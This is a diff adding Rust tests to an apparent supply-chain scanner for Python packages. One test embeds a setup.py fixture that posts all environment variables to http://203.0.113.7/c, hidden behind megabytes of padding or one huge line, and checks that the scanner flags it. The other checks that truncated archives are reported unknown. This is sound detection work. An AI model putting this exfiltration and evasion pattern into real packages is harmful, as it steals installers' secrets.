@@ -599,3 +599,81 @@ fn archives_too_large_to_download_are_named_not_failed() {
         0
     );
 }
+
+#[test]
+fn payloads_behind_padding_or_one_huge_line_are_found() {
+    let tmp = tempfile::tempdir().unwrap();
+    let payload: &[u8] = b"\nimport os, json, urllib.request\nurllib.request.urlopen('http://203.0.113.7/c', data=json.dumps(dict(os.environ)).encode())\nsetup(name='x')\n";
+    let line = b"x = 1  # harmless padding\n";
+    let mut padded = b"from setuptools import setup\n".to_vec();
+    while padded.len() < 18 << 20 {
+        padded.extend_from_slice(line);
+    }
+    padded.extend_from_slice(payload);
+    let mut long = b"from setuptools import setup\n#".to_vec();
+    long.resize(long.len() + (60 << 20), b'a');
+    long.extend_from_slice(payload);
+    for (name, setup) in [("padded", padded), ("longline", long)] {
+        let sdist = targz(
+            tmp.path(),
+            &format!("{name}-1.0.tar.gz"),
+            &[(&format!("{name}-1.0/setup.py"), &setup)],
+        );
+        let (code, report) = scan(&sdist);
+        assert_eq!(code, 1, "{name}: {report}");
+        let got = rules(&report);
+        assert!(
+            got.contains(&(
+                "exfiltration".into(),
+                "critical".into(),
+                format!("{name}-1.0/setup.py")
+            )),
+            "{name}: {got:?}"
+        );
+        assert_eq!(report["packages"][0]["scan"]["status"], "scanned", "{name}");
+    }
+}
+
+#[test]
+fn an_archive_that_cannot_be_read_in_full_leaves_the_scan_unknown() {
+    let tmp = tempfile::tempdir().unwrap();
+    let whole = targz(
+        tmp.path(),
+        "whole-1.0.tar.gz",
+        &[(
+            "whole-1.0/setup.py",
+            b"from setuptools import setup\nsetup()\n",
+        )],
+    );
+    let bytes = std::fs::read(&whole).unwrap();
+    let cut = tmp.path().join("cut-1.0.tar.gz");
+    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
+    let (_, report) = scan(&cut);
+    let status = &report["packages"][0]["scan"];
+    assert_eq!(status["status"], "unknown", "{report}");
+    assert!(
+        status["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("cut-1.0.tar.gz was not scanned in full"),
+        "{status}"
+    );
+    assert_eq!(report["summary"]["unknown"], 1);
+    assert!(
+        rules(&report)
+            .iter()
+            .any(|(r, _, _)| r == "archive-anomaly")
+    );
+    // --fail-on-unknown fails it even at a severity that would pass.
+    let (code, _, _) = run(customs(tmp.path()).args([
+        "scan",
+        "--fail-on",
+        "critical",
+        "--fail-on-unknown",
+        cut.to_str().unwrap(),
+    ]));
+    assert_eq!(code, 1);
+    let (code, _, _) =
+        run(customs(tmp.path()).args(["scan", "--fail-on", "critical", whole.to_str().unwrap()]));
+    assert_eq!(code, 0);
+}
